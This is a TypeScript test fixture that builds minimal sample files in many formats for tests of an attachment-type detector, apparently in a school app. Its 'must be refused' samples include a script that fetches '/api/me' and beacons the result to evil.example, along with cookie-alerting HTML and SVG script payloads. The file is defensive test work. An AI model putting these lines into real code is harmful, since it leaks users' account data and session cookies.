/**
 * The smallest byte strings that look like each kind of file a teacher may attach (and a few
 * that must be refused), for the attachment tests: each starts as the real format does, so a
 * detector that reads the bytes (not the uploader's claim) recognises it.
 */
import zlib from 'node:zlib';

/** Bytes backed by a plain ArrayBuffer, as a Blob takes them. */
type Bytes = Uint8Array<ArrayBuffer>;

const ascii = (text: string): Bytes => new TextEncoder().encode(text) as Bytes;

function concat(...parts: Array<Uint8Array | number[] | string>): Bytes {
	const arrays = parts.map((p) => (typeof p === 'string' ? ascii(p) : p instanceof Uint8Array ? p : new Uint8Array(p)));
	const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
	let at = 0;
	for (const a of arrays) {
		out.set(a, at);
		at += a.length;
	}
	return out;
}

const u16 = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const u32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const u32be = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];

/** A ZIP archive with the given entries stored uncompressed (enough for OOXML and ODF detection). */
export function zip(entries: Array<[name: string, content: string]>): Bytes {
	const locals: Uint8Array[] = [];
	const centrals: Uint8Array[] = [];
	let offset = 0;
	for (const [name, content] of entries) {
		const data = ascii(content);
		const nameBytes = ascii(name);
		const crc = zlib.crc32(data);
		const common = [...u16(20), ...u16(0), ...u16(0), ...u16(0), ...u16(0), ...u32(crc), ...u32(data.length), ...u32(data.length), ...u16(nameBytes.length), ...u16(0)];
		const local = concat([0x50, 0x4b, 0x03, 0x04], common, nameBytes, data);
		centrals.push(concat([0x50, 0x4b, 0x01, 0x02], u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), nameBytes));
		locals.push(local);
		offset += local.length;
	}
	const central = concat(...centrals);
	const end = concat([0x50, 0x4b, 0x05, 0x06], u16(0), u16(0), u16(entries.length), u16(entries.length), u32(central.length), u32(offset), u16(0));
	return concat(...locals, central, end);
}

const contentTypes = (main: string) =>
	`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="${main}"/></Types>`;

/** Sample files by the extension a person would give them. */
export const SAMPLES = {
	pdf: ascii('%PDF-1.4\n% учебный материал\n'),
	png: Uint8Array.from(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64')),
	jpg: concat([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0], [0xff, 0xd9]),
	gif: concat('GIF89a', [1, 0, 1, 0, 0, 0, 0], ',', [0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0], ';'),
	webp: concat('RIFF', u32(26), 'WEBPVP8 ', u32(14), new Uint8Array(14)),
	mp3: concat('ID3', [3, 0, 0, 0, 0, 0, 0], [0xff, 0xfb, 0x90, 0x64], new Uint8Array(413)),
	ogg: concat('OggS', [0, 2], new Uint8Array(20), [1, 30], [1], 'vorbis', new Uint8Array(23)),
	wav: concat('RIFF', u32(36), 'WAVEfmt ', u32(16), u16(1), u16(1), u32(8000), u32(8000), u16(1), u16(8), 'data', u32(0)),
	m4a: concat(u32be(24), 'ftypM4A ', u32be(0), 'M4A isom', u32be(8), 'free'),
	mp4: concat(u32be(24), 'ftypisom', u32be(512), 'isomiso2', u32be(8), 'free'),
	webm: concat([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84], 'webm', [0x18, 0x53, 0x80, 0x67, 0x80]),
	rtf: ascii('{\\rtf1\\ansi Домашнее задание}'),
	txt: ascii('Домашнее задание: № 1–5, стр. 42.\n'),
	csv: ascii('Фамилия;Оценка\nИванов;5\n'),
	/** An OLE2 compound file, as .doc, .xls and .ppt are (and .msi, which is why the name decides). */
	doc: concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(504)),
	docx: zip([['[Content_Types].xml', contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')], ['word/document.xml', '<w:document/>']]),
	xlsx: zip([['[Content_Types].xml', contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml')], ['xl/workbook.xml', '<workbook/>']]),
	pptx: zip([['[Content_Types].xml', contentTypes('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml')], ['ppt/presentation.xml', '<p/>']]),
	odt: zip([['mimetype', 'application/vnd.oasis.opendocument.text'], ['content.xml', '<office:document-content/>']]),
	ods: zip([['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'], ['content.xml', '<office:document-content/>']]),
	odp: zip([['mimetype', 'application/vnd.oasis.opendocument.presentation'], ['content.xml', '<office:document-content/>']]),
	/** Files that must be refused whatever they are called or claim to be. */
	js: ascii('fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t));\n'),
	html: ascii('<!doctype html><script>alert(document.cookie)</script>'),
	svg: ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
	exe: concat('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0], new Uint8Array(54), 'PE\0\0', new Uint8Array(64)),
	zip: zip([['readme.txt', 'hello']]),
	utf16: Uint8Array.from(Buffer.from('\ufeffДомашнее задание', 'utf16le'))
} satisfies Record<string, Bytes>;
